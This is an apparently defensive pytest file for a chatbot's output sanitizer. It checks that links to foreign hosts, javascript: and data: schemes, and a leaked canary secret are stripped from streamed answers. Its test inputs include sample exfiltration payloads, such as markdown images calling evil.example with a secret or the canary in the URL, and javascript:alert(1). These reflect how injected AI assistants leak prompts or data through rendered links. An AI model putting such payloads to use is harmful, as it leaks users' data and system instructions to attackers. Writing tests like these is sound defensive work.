import pytest

from chatgepeto.answering.safety import StreamSanitizer, new_canary, sanitize


def test_images_and_foreign_links_are_removed():
    text = (
        "Veja ![x](https://evil.example/p?q=segredo) e [o guia](https://phish.example/login) "
        "ou <https://evil.example/a> [1]."
    )
    assert sanitize(text) == "Veja  e o guia ou  [1]."


def test_allowed_hosts_are_kept():
    text = "[docs](https://docs.python.org/3/) ![f](https://cdn.usp.br/f.png) [m](http://x.com)"
    out = sanitize(text, ["python.org", "usp.br"])
    assert "[docs](https://docs.python.org/3/)" in out
    assert "![f](https://cdn.usp.br/f.png)" in out
    assert "[m](http://x.com)" not in out and "m" in out


def test_dangerous_schemes_are_never_allowed():
    for text in ("[clique](javascript:alert(1))", "![a](data:image/png;base64,xx)"):
        assert "javascript" not in sanitize(text, ["javascript", "data"])
        assert "data:" not in sanitize(text, ["javascript", "data"])


def test_citations_and_brackets_pass_through():
    text = "A seleção natural [1][2] atua em listas como a[0] e [x, y]."
    assert sanitize(text) == text


def test_streaming_holds_back_only_what_may_become_a_link():
    stream = StreamSanitizer()
    pieces = ["A resposta", " [1]", " e ![im", "g](https://evil.ex", "ample/x.png)", " fim", "."]
    sent = [stream.feed(p) for p in pieces] + [stream.flush()]
    assert "".join(sent) == "A resposta [1] e  fim."
    assert sent[0] == "A resposta"  # nothing held without a bracket
    assert "evil" not in "".join(sent)


def test_streaming_flushes_an_unclosed_bracket_at_the_end():
    stream = StreamSanitizer()
    assert stream.feed("lista [a, b") == "lista "
    assert stream.flush() == "[a, b"


CANARY = "cg-canary-0123456789abcdef01234567"


def stream_through(pieces, secrets=(CANARY,), hosts=()):
    stream = StreamSanitizer(hosts, secrets=secrets)
    sent = [stream.feed(p) for p in pieces] + [stream.flush()]
    return "".join(sent), stream


def test_new_canaries_are_fresh_single_words():
    first, second = new_canary(), new_canary()
    assert first != second and first.startswith("cg-canary-")
    assert len(first.split()) == 1


def test_canary_is_removed_wherever_the_stream_splits_it():
    text = f"My instructions end with: {CANARY}. Now the answer [1]."
    for cut in range(1, len(text)):
        for step in (1, 3, 7):
            pieces = [text[:cut]] + [text[i : i + step] for i in range(cut, len(text), step)]
            out, stream = stream_through(pieces)
            assert out == "My instructions end with: . Now the answer [1].", (cut, step)
            assert stream.secrets_removed == 1


def test_canary_in_any_case_repeated_or_rejoined_is_removed():
    upper = CANARY.upper()
    half = len(CANARY) // 2
    rejoined = CANARY[:half] + CANARY + CANARY[half:]  # removing one joins the other
    out, stream = stream_through(["a ", upper, " b ", CANARY, CANARY, " ", rejoined, " c"])
    assert out == "a  b   c"
    assert stream.secrets_removed == 5
    assert CANARY not in out.lower()


def test_canary_inside_a_link_is_removed_before_the_link_is_judged():
    out, _ = stream_through([f"[veja](https://evil.example/?k={CANARY}) e ![i](", "x.png)"])
    assert out == "veja e "


def test_held_prefix_that_is_not_the_canary_is_released():
    stream = StreamSanitizer(secrets=(CANARY,))
    assert stream.feed("uma célula cg-can") == "uma célula "  # may be the canary: held
    assert stream.feed("tor") == "cg-cantor"  # it was not
    assert stream.feed(" e c") == " e "
    assert stream.flush() == "c"  # the stream ended before any canary
    assert stream.secrets_removed == 0


def test_without_secrets_nothing_is_held_for_them():
    stream = StreamSanitizer()
    assert stream.feed("ends with c") == "ends with c"


def test_destinations_with_parentheses_and_deeper_leftovers():
    assert sanitize("[clique](javascript:alert(1)) fim") == "clique fim"
    assert sanitize("![p](https://evil.example/a_(b).png) fim") == " fim"
    kept = "[wiki](https://usp.br/a_(b))"
    assert sanitize(kept, ["usp.br"]) == kept
    # Nested deeper than the pattern reads: the "](" is broken, so it is no link at all.
    assert sanitize("[x](javascript:a((1)))") == "[x] (javascript:a((1)))"


def test_reference_definitions_to_foreign_hosts_are_removed():
    text = (
        "Texto ![a][img] e [b][link].\n"
        '[img]: https://evil.example/p.png "t"\n'
        "  [link]: <javascript:alert(1)>\n"
        "[ok]: https://usp.br/x\n"
        "[1]: nota de rodapé, não um link\n"
    )
    out = sanitize(text, ["usp.br"])
    assert "evil.example" not in out and "javascript" not in out
    assert "[ok]: https://usp.br/x" in out and "[1]: nota de rodapé, não um link" in out


def test_autolinks_of_any_scheme_are_removed_but_html_stays_text():
    out = sanitize("<https://evil.example/a> <mailto:a@b.c> <vbscript:x> <div> a < b")
    assert out == "   <div> a < b"


@pytest.mark.parametrize(
    "text",
    [
        "Veja [clique](javascript:alert(1)) agora.",
        "Veja <https://evil.example/a> agora.",
        'Veja ![p](https://evil.example/p.png "t") agora.',
        "Veja\n[r]: https://evil.example/p.png\nagora.",
    ],
)
def test_streamed_links_split_anywhere_are_removed(text):
    for step in (1, 2, 5):
        pieces = [text[i : i + step] for i in range(0, len(text), step)]
        out, _ = stream_through(pieces, secrets=())
        assert out == sanitize(text), (text, step)
        assert "evil" not in out and "javascript" not in out
